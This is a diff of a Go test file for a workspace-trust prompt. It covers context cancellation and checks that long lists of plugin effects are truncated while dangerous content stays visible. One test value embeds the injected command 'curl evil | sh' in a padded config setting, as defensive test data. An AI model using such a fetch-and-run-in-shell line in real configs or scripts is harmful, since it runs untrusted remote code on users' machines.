@@ -1,8 +1,10 @@
 package trust_test
 
 import (
+	"context"
 	"errors"
 	"io"
+	"os"
 	"strings"
 	"testing"
 	"testing/iotest"
@@ -155,7 +157,7 @@ func TestAsk(t *testing.T) {
 		t.Run(c.name, func(t *testing.T) {
 			in := strings.NewReader(c.typed)
 			var out strings.Builder
-			if got := trust.Ask(in, &out, c.terminal, q); got != c.want {
+			if got := trust.Ask(context.Background(), in, &out, c.terminal, q); got != c.want {
 				t.Errorf("got %q, want %q", got, c.want)
 			}
 			if rest, err := io.ReadAll(in); string(rest) != c.rest || err != nil {
@@ -169,13 +171,13 @@ func TestAsk(t *testing.T) {
 			}
 		})
 	}
-	if got := trust.Ask(strings.NewReader("y\n"), io.Discard, true, trust.Question{Workspace: "/w"}); got != trust.NoAnswer {
+	if got := trust.Ask(context.Background(), strings.NewReader("y\n"), io.Discard, true, trust.Question{Workspace: "/w"}); got != trust.NoAnswer {
 		t.Errorf("a question about nothing: %q", got)
 	}
-	if got := trust.Ask(strings.NewReader("y\n"), closed{}, true, q); got != trust.NoAnswer {
+	if got := trust.Ask(context.Background(), strings.NewReader("y\n"), closed{}, true, q); got != trust.NoAnswer {
 		t.Errorf("a question nobody saw: %q", got)
 	}
-	if got := trust.Ask(iotest.ErrReader(errors.New("gone")), io.Discard, true, q); got != trust.NoAnswer {
+	if got := trust.Ask(context.Background(), iotest.ErrReader(errors.New("gone")), io.Discard, true, q); got != trust.NoAnswer {
 		t.Errorf("a broken terminal: %q", got)
 	}
 }
@@ -231,4 +233,77 @@ func FuzzSanitize(f *testing.F) {
 			t.Errorf("%q: not the same the second time", in)
 		}
 	})
+}
+
+// The end of the context ends the question at once, and what is typed afterwards
+// is neither an answer nor taken from whoever reads next.
+func TestAskEndsWithItsContext(t *testing.T) {
+	q := trust.Question{Workspace: "/w", Subjects: []trust.Subject{{Name: "plugin a"}}}
+	for _, c := range []struct{ name, before, after string }{
+		{"nothing typed", "", "y\n"},
+		{"a line begun", "y", "\n"},
+		{"asked a second time", "what\n", "y\n"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			in, typing, err := os.Pipe()
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer in.Close()
+			ctx, cancel := context.WithCancel(t.Context())
+			defer cancel()
+			if _, err := typing.WriteString(c.before); err != nil {
+				t.Fatal(err)
+			}
+			asked := make(chan struct{}, 9)
+			done := make(chan trust.Answer, 1)
+			go func() { done <- trust.Ask(ctx, in, told(asked), true, q) }()
+			for range 2 + strings.Count(c.before, "\n") { // the question and its prompts
+				<-asked
+			}
+			select {
+			case a := <-done:
+				t.Fatalf("answered %q by itself", a)
+			default:
+			}
+			cancel()
+			if a := <-done; a != trust.NoAnswer {
+				t.Errorf("got %q", a)
+			}
+			if _, err := typing.WriteString(c.after); err != nil {
+				t.Fatal(err)
+			}
+			if err := typing.Close(); err != nil {
+				t.Fatal(err)
+			}
+			if rest, err := io.ReadAll(in); err != nil || !strings.HasSuffix(string(rest), c.after) {
+				t.Errorf("left to read: %q %v, want %q", rest, err, c.after)
+			}
+		})
+	}
+	ended, cancel := context.WithCancel(t.Context())
+	cancel()
+	if a := trust.Ask(ended, strings.NewReader("y\n"), io.Discard, true, q); a != trust.NoAnswer {
+		t.Errorf("a context that had ended: %q", a)
+	}
+}
+
+// told is a screen that says when something was shown.
+type told chan struct{}
+
+func (s told) Write(p []byte) (int, error) { s <- struct{}{}; return len(p), nil }
+
+// Many effects are counted, and a long value is cut with its length said.
+func TestQuestionCountsEffects(t *testing.T) {
+	effects := make([]string, 300)
+	for i := range effects {
+		effects[i] = "sets x"
+	}
+	effects[0] = "  fmt.cmd = " + strings.Repeat("a", 1500) + "; curl evil | sh" + strings.Repeat("b", 3000)
+	text := trust.Question{Workspace: "/w", Subjects: []trust.Subject{{Name: "plugins.json", Effects: effects}}}.Text()
+	for _, want := range []string{"; curl evil | sh", "b… (2528 more characters)\n", "  … 100 more effects; read the file before you trust it\n"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("no %q in:\n%.3000s", want, text)
+		}
+	}
 }
